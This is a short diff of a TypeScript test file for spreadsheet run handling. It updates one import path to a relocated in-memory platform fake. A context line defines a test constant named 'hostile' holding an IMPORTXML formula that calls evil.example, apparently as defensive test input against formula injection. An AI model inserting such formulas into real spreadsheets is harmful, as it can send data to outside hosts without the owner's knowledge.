@@ -4,7 +4,7 @@ import { pump } from '../../src/sheet/pump';
 import { writeHistory } from '../../src/sheet/runs/history-sheet';
 import { startRun } from '../../src/sheet/runs/start';
 import { undoRun } from '../../src/sheet/runs/undo/undo';
-import { Killed, World } from '../support/memory-platform';
+import { Killed, World } from '../fakes/platform/memory-platform';
 import { newest, requestFor, runOut, runThrough } from '../support/runs';
 
 const hostile = '=IMPORTXML("https://evil.example","//a")';
